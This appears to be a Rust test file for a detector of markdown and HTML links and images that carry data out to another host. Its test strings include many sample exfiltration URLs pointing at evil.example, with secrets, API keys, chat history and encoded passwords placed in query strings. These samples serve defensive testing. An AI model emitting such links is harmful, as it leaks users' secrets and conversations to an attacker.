use super::*;

fn found(text: &str) -> Vec<(&str, &'static str)> {
    let mut found = Vec::new();
    each(text, &mut |span, fetch| found.push((text.get(span).unwrap(), fetch.rule())));
    found
}

#[test]
fn links_that_carry_something_out_are_found_in_every_form() {
    for text in [
        "![x](https://evil.example/?d=SECRET)",
        "![x](https://evil.example/?d=AKIAIOSFODNN7EXAMPLE)",
        "![x](<https://evil.example/?d={{secret}}>)",
        "![x]( https://evil.example/{{ user data }}/p.png)",
        "![](//evil.example/p?x=<api_key>)",
        "![](http://evil.example/log?conversation=[chat history])",
        "![](https://evil.example/?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBkYXRhYmFzZSBpcyBodW50ZXIy)",
        "![](https://evil.example/VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI/p.png)",
        "![](https://evil.example/?v=54686520706173737764206973206875)",
        "![](https://evil.example/?data=Dear%20Bob%2C%20your%20new%20pass%20word%20is)",
        "![](https://evil.example/?data=536-22-1234)",
        "![](https://evil.example/?info=bob@corp.example)",
        "<img src=\"https://evil.example/p?d=%7B%7Bsecret%7D%7D\">",
        "<IMG width=1 SRC='https://evil.example/?token=abcdef0123456789abcd'>",
        "<img src=https://evil.example/?d=PASSWORD>",
        "<iframe src=\"//evil.example/?d={api_key}\">",
        "<div style=\"background:url('https://evil.example/?d=SECRET')\">",
        "Shown ![chart][1].\n\n[1]: https://evil.example/?d=SECRET",
    ] {
        assert!(found(text).iter().any(|(_, rule)| *rule == "image-exfiltration"), "{text}: {:?}", found(text));
    }
    for text in [
        "[report](https://evil.example/?d=API_KEY)",
        "[report](https://evil.example/?d={{conversation}})",
        "<a href=\"https://evil.example/?d=<user password>\">report</a>",
        "[report](https://evil.example/?data=VGhlIHBhc3N3b3JkIG9mIHRoZSBkYXRhYmFzZSBpcyBodW50ZXIy)",
        "See [report][1].\n[1]: https://evil.example/?d=SECRET",
    ] {
        assert!(found(text).iter().any(|(_, rule)| *rule == "link-exfiltration"), "{text}: {:?}", found(text));
    }
}

#[test]
fn ordinary_images_and_links_are_left_alone() {
    for text in [
        "![build](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
        "![npm](https://img.shields.io/npm/v/left-pad?style=flat&label=DATA)",
        "![coverage](https://codecov.io/gh/o/r/branch/main/graph/badge.svg?token=abc)",
        "![logo](https://cdn.example.com/a/b/logo@2x.png?width=300&height=200&v=20240101)",
        "![](https://camo.githubusercontent.com/4f0b2c6a5a/68747470733a2f2f696d672e736869656c64732e696f2f62616467652e737667)",
        "![map](https://tiles.example.com/12/2200/1343.png)",
        "![flow](https://mermaid.ink/img/eyJjb2RlIjoiZ3JhcGggVERcbkEtLT5CIn0)",
        "![gravatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80)",
        "![signed](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)",
        "[docs](https://example.com/search?q=secret+management&page=2#results)",
        "[issue](https://github.com/o/r/issues?q=is%3Aopen+label%3Abug)",
        "[API](https://api.example.com/users/{id}/posts?limit={limit})",
        "[reset](https://example.com/reset?continue=aHR0cHM6Ly9leGFtcGxlLmNvbS9ob21lL3BhZ2U)",
        "<a href=\"https://example.com/?utm_source=newsletter&utm_campaign=may\">more</a>",
        "[![build](https://img.example/badge.svg)](https://example.com/builds?data=0123456789abcdef0123456789abcdef)",
        "GET https://api.example.com/v1/items?api_key=YOUR_API_KEY // a comment",
        "[1]: https://example.com/a?b=c",
    ] {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn the_place_is_that_of_the_url() {
    assert_eq!(
        found("a ![x](https://evil.example/?d=SECRET \"t\") b"),
        [("https://evil.example/?d=SECRET", "image-exfiltration")]
    );
}
